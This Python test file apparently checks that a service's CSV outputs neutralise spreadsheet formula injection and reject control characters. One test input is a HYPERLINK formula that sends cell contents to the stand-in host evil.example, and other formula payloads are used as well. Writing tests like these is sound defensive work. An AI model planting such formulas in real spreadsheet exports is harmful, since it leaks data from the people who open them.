"""No CSV the service writes holds a cell a spreadsheet would run: a hostile name stored through an
import, and a hostile column passed through mint, come out as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from prefill.csv_safe import FORMULA_STARTS
from tests.helpers import CAMPAIGN_ID, run

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_mint_output_neutralises_stored_and_passed_through_formulas(
    env: dict[str, str], tmp_path: Path
) -> None:
    assert run(env, "import", "examples")[0] == 0
    customers = tmp_path / "hostile.csv"
    customers.write_text(
        "id,email,first_name,last_name,locale,owner_id,consent_email_marketing\n"
        f'cust-1001,matti.korhonen@lampo.example,"{HOSTILE_NAME.replace(chr(34), 2 * chr(34))}",'
        "@SUM(1+1),fi,aino-virtanen,granted\n",
        encoding="utf-8",
    )
    code, _, err = run(
        env, "import", "customers", str(customers), "--notice-version", "email_marketing=em-1"
    )
    assert code == 0, err
    source = tmp_path / "list.csv"
    source.write_text("customer_id,note,=1+1\ncust-1001,=1+1,-2+3\n", encoding="utf-8")
    code, out, err = run(env, "mint", "--campaign", CAMPAIGN_ID, "--input", str(source))
    assert code == 0, err
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert (row["first_name"], row["last_name"]) == ("'" + HOSTILE_NAME, "'@SUM(1+1)")
    assert (row["note"], row["'=1+1"]) == ("'=1+1", "'-2+3")
    assert not [cell for cell in cells(out) if cell.startswith(FORMULA_STARTS)]


def test_an_import_error_report_neutralises_its_cells(env: dict[str, str], tmp_path: Path) -> None:
    source = tmp_path / "bad.csv"
    source.write_text("id,email\n-1,=not-an-email\n", encoding="utf-8")
    report = tmp_path / "bad.errors.csv"
    code, _, _ = run(env, "import", "customers", str(source), "--errors", str(report))
    assert code == 1
    text = report.read_text(encoding="utf-8")
    assert len(list(csv.reader(io.StringIO(text)))) == 2
    assert not [cell for cell in cells(text) if cell.startswith(FORMULA_STARTS)]


def test_a_control_character_in_an_imported_row_is_a_bad_row_in_words(
    env: dict[str, str], tmp_path: Path
) -> None:
    source = tmp_path / "ctl.csv"
    source.write_text("id,email,first_name\nc-1,a@x.example,Eve\x1bTEL\n", encoding="utf-8")
    code, _, err = run(env, "import", "customers", str(source))
    assert code == 1
    assert "line 2: first_name: must not contain control characters" in err
    assert "TEL" not in err
